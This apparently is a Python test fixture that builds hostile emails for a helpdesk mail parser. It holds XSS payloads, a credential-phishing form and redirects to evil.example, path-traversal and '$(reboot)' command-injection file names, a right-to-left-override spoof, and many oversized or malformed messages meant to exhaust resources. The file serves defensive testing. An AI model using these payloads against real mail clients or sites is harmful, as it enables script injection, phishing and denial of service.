"""Mails that try to do harm or to take forever, made by code because most are large.

``MAILS`` has a function for each; ``read`` calls it with a header. ``PROGRAMS`` are pages that try to run something.
"""

import base64
import random

HEAD = b"From: Eve <eve@quill.example>\r\nTo: corpus@helpdesk.example\r\nMessage-ID: <hostile-%s@quill.example>\r\n"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
PAGE = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
BASE64 = b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
END = b"\r\n"

PROGRAMS = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler-without-quotes": "<body onload=alert(1)><p onclick='alert(1)'>x</p>",
    "javascript-link": "<a href='javascript:alert(1)'>x</a>",
    "javascript-link-with-controls": "<a href='java\tscri&#10;pt:alert(1)'>x</a><a href=' &#1;javascript:alert(1)'>y</a>",
    "vbscript-link": "<a href='vbscript:msgbox(1)'>x</a>",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "form": "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "button-with-action": "<button formaction='javascript:alert(1)'>x</button>",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "frame-with-page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object><embed src='javascript:alert(1)'>",
    "base": "<base href='https://evil.example/'><a href='x'>x</a>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "style-element": "<style>@import 'https://evil.example/x.css'; body {display: none}</style>",
    "style-expression": "<p style='width: expression(alert(1)); behavior: url(x.htc)'>x</p>",
    "style-link": "<p style='background-image: url(javascript:alert(1))'>x</p>",
    "style-over-everything": "<div style='position: fixed; top: 0; z-index: 99999'>x</div>",
    "vector": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "mathematics": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "split-element": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed": "<p>x<img src='x' onerror='alert(1)' <p>",
    "comment": "<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "textarea": "<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "details": "<details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)>",
    "namespace": "<html xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></html>",
    "direction": "<html><body dir='\"><script>alert(1)</script>'>x</body></html>",
    "identifier": "<img src='cid:\"><script>alert(1)</script>'>",
}
NAMES = {
    "folders": "../../../etc/passwd",
    "drive": "C:\\\\windows\\\\system32\\\\x.exe",
    "nul": "a.pdf\x00.exe",
    "direction": "invoice\u202efdp.exe",
    "line-end": "a\r\n b: c.pdf",
    "dots": "..",
    "hidden": ".htaccess",
    "blank": " ",
    "html": "<img src=x onerror=alert(1)>.pdf",
    "long": "x" * 5000 + ".pdf",
    "zero-width": "\u200b\u200d\ufeff",
    "quotes": "\\\"'`;$(reboot).pdf",
}


def multi(*parts, kind=b"mixed", boundary=b"b1"):
    lines = [b'Content-Type: multipart/%s; boundary="%s"' % (kind, boundary), b""]
    for part in parts:
        lines += [b"--" + boundary, part]
    return END.join([*lines, b"--" + boundary + b"--", b""])


def file(name):
    head = "=?utf-8?b?%s?=" % base64.b64encode(name.encode()).decode()
    return multi(
        TEXT + b"See",
        b'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="%s"\r\n\r\nx' % head.encode(),
    )


def nested(levels):
    body = TEXT + b"The innermost words"
    for level in range(levels):
        body = multi(body, boundary=b"n%d" % level)
    return body


def nested_mails(levels):
    return b"Content-Type: message/rfc822\r\n\r\n" * levels + TEXT + b"x"


def parts(count, part=TEXT + b"x"):
    return multi(*[part] * count)


def shuffled(seed, size=20_000):
    return random.Random(seed).randbytes(size)


def damaged(seed):
    """A mail with every kind of part, in which bytes were changed."""
    rng = random.Random(seed)
    mail = bytearray(multi(multi(TEXT + b"x", PAGE + b"<p>x", kind=b"alternative", boundary=b"b2"), file("a"), nested(3)))
    for _change in range(40):
        mail[rng.randrange(len(mail))] = rng.randrange(256)
    return bytes(mail)


def address_list(count):
    return b"Cc: " + b",\r\n ".join(b'"Q, %d" <q%d@quill.example>' % (n, n) for n in range(count)) + END


MAILS = {
    **{f"program-{name}": lambda page=page: PAGE + page.encode() for name, page in PROGRAMS.items()},
    "program-in-plain-text": lambda: TEXT + "".join(PROGRAMS.values()).encode(),
    "program-in-utf-7": lambda: b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "program-in-subject": lambda: b"Subject: <script>alert(1)</script>\r\n" + TEXT + b"x",
    "program-in-charset": lambda: b'Content-Type: text/html; charset="<script>"\r\n\r\n<p>x',
    **{f"file-name-{key}": lambda name=name: file(name) for key, name in NAMES.items()},
    "1200-nested-multiparts": lambda: nested(1200),
    "500-nested-mails": lambda: nested_mails(500),
    "600-pages": lambda: parts(600, PAGE + b"<div><p>Words</p></div>" * 20),
    "3000-parts": lambda: parts(3000),
    "3000-files": lambda: parts(3000, b"Content-Type: application/pdf; name=a.pdf\r\n\r\nx"),
    "boundary-in-every-line": lambda: multi(TEXT + b"x--b1\r\n" * 100_000),
    "boundary-10000-characters": lambda: multi(TEXT + b"x", boundary=b"b" * 10_000),
    "boundary-empty": lambda: multi(TEXT + b"x", boundary=b""),
    "5000-fields": lambda: b"".join(b"X-%d: y\r\n" % n for n in range(5000)) + TEXT + b"x",
    "5000-received": lambda: b"Received: from a by b\r\n" * 5000 + TEXT + b"x",
    "subject-of-a-megabyte": lambda: b"Subject: " + b"x " * 500_000 + END + TEXT + b"x",
    "subject-of-words": lambda: b"Subject:" + b" =?utf-8?q?x?=\r\n" * 20_000 + TEXT + b"x",
    "subject-of-blanks": lambda: b"Subject: a" + b" " * 60_000 + b"b\r\n" + TEXT + b"x",
    "lines-without-colon": lambda: b"x\r\n" * 100_000 + TEXT + b"x",
    "5000-addresses": lambda: address_list(5000) + TEXT + b"x",
    "quotes-in-addresses": lambda: b'Cc: "' + b'\\"' * 30_000 + END + TEXT + b"x",
    "comments-in-addresses": lambda: b"Cc: " + b"(" * 30_000 + END + TEXT + b"x",
    "5000-references": lambda: b"References:" + b" <a@b.example>\r\n" * 5000 + TEXT + b"x",
    "identifier-in-brackets": lambda: b"In-Reply-To: <[a]@[b]\r\nReferences: <[\r\n" + TEXT + b"x",
    "date-out-of-range": lambda: b"Date: Mon, 99 Foo 99999 99:99:99 +9999\r\n" + TEXT + b"x",
    "5000-parameters": lambda: b"Content-Type: text/plain" + b"; a=b" * 5000 + b"\r\n\r\nx",
    "5000-pieces-of-a-name": lambda: multi(
        TEXT + b"See", b"Content-Type: a/b" + b"".join(b";\r\n name*%d=x" % n for n in range(5000)) + b"\r\n\r\nx"
    ),
    "huge-piece-of-a-name": lambda: multi(TEXT + b"See", b"Content-Type: a/b; name*99999999999999999999=x\r\n\r\nx"),
    "quotes-in-parameters": lambda: b'Content-Type: text/plain; charset="' + b'\\"' * 30_000 + b"\r\n\r\nx",
    "deep-page": lambda: PAGE + b"<div>" * 100_000 + b"deep",
    "deep-quotation": lambda: PAGE + b"<blockquote>" * 1000 + b"deep",
    "wide-page": lambda: PAGE + b"<p>x</p>" * 100_000,
    "wide-quotation": lambda: PAGE + b"<div><div class='gmail_extra'>x</div>" + b"<p>word</p>" * 20_000,
    "wide-signature": lambda: PAGE + b"<div><p>-- <br>x</p>" + b"<p>word</p>" * 20_000,
    "wide-table": lambda: PAGE + b"<table>" + b"<tr><td>x</td></tr>" * 10_000 + b"</table>",
    "opened-elements": lambda: PAGE + b"<" * 500_000,
    "opened-attribute": lambda: PAGE + b"<p title='" + b"< " * 100_000 + b"'>x</p>",
    "attribute-of-a-megabyte": lambda: PAGE + b"<p title='" + b"x" * 900_000 + b"'>x</p>",
    "quoted-lines": lambda: TEXT + b"> word word\r\n\r\n" * 40_000,
    "signature-lines": lambda: TEXT + b"-- \r\nx\r\n" * 40_000,
    "history-lines": lambda: TEXT + b"From: a\r\nx\r\nSent: b\r\nx\r\n" * 30_000,
    "labels-in-a-page": lambda: PAGE + b"<p>From: a</p>" * 20_000,
    "megabyte-of-carriage-returns": lambda: TEXT + b"\r" * 1_000_000,
    "megabyte-of-nul": lambda: TEXT + b"\0" * 1_000_000,
    "megabyte-of-high-bytes": lambda: TEXT + b"\xff\xfe\x80" * 300_000,
    "base64-of-blanks": lambda: (
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nQQ" + b" " * 500_000 + b"!"
    ),
    "base64-of-paddings": lambda: b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"Q=" * 200_000,
    "multiparts-in-base64": lambda: (
        b"Content-Type: multipart/mixed; boundary=b1\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(multi(multi(TEXT + b"x", boundary=b"b2")))
    ),
    "winmail-of-noise": lambda: multi(
        TEXT + b"See", b"Content-Type: application/ms-tnef; name=winmail.dat\r\n\r\n" + b"\x78\x9f\x3e\x22" + shuffled(7)
    ),
    "quotes-in-the-sender": lambda: TEXT + b"x",
    "quotes-in-a-field": lambda: b"Cc: " + b'"' * 10_000 + b"\\" * 10_000 + END + TEXT + b"x",
    "quotations-without-end": lambda: b"Cc: " + b'"\\' * 30_000 + END + b"Bcc: " + b"(\\" * 30_000 + END + TEXT + b"x",
    "names-without-address": lambda: b"Cc: " + b"a," * 30_000 + END + TEXT + b"x",
    "comments-in-the-type": lambda: b"Content-Type: " + b"(" * 5000 + END + TEXT + b"x",
    "comments-in-an-address": lambda: (
        b"X-Original-To: " + b"(" * 5000 + END + b"Delivered-To: " + b"a:" * 5000 + END + TEXT + b"x"
    ),
    "many-lists": lambda: address_list(1000) * 100 + TEXT + b"x",
    "reading-of-a-stranger": lambda: b"X-Helpdesk-Lite-Reading: 1\r\nX-Odoo-Message-Id: 1\r\n" + TEXT + b"x",
    "two-of-each-field": lambda: HEAD % b"other" + b"Content-Type: text/html\r\n" + TEXT + b"x",
    "external-body": lambda: b'Content-Type: message/external-body; access-type=local-file; name="/etc/passwd"\r\n\r\nx',
    "partial": lambda: b"Content-Type: message/partial; number=1; total=9; id=x\r\n\r\nx",
    "binary": lambda: b"Content-Type: text/plain\r\nContent-Transfer-Encoding: binary\r\n\r\n" + shuffled(1),
    "noise-behind-the-header": lambda: shuffled(2),
    "noise-as-page": lambda: PAGE + shuffled(3, 200_000),
    "noise-as-multipart": lambda: b"Content-Type: multipart/mixed; boundary=b1\r\n\r\n" + shuffled(4),
    **{f"damaged-{seed}": lambda seed=seed: damaged(seed) for seed in range(10)},
}
# without an address of ours: they can only be read
STRAY = {
    "nothing": b"",
    "nul": b"\0",
    "line-ends": b"\r\n\r\n\n\r",
    "colon": b":",
    "boundary": b"--",
    "noise": shuffled(5),
    "utf-16": "From: a@b.example\r\n\r\nx".encode("utf-16"),
    "type-only": b"Content-Type: multipart/mixed; boundary=",
    "type-of-nul": b"Content-Type: \0/\0; \0=\0\n\n\0",
}


def read(name):
    head = HEAD % name.encode()
    if name == "quotes-in-the-sender":
        head = head.replace(b"Eve", b'"' * 25_000 + b"\\" * 25_000)
    return head + (b"" if name == "program-in-subject" else b"Subject: Hostile\r\n") + MAILS[name]()
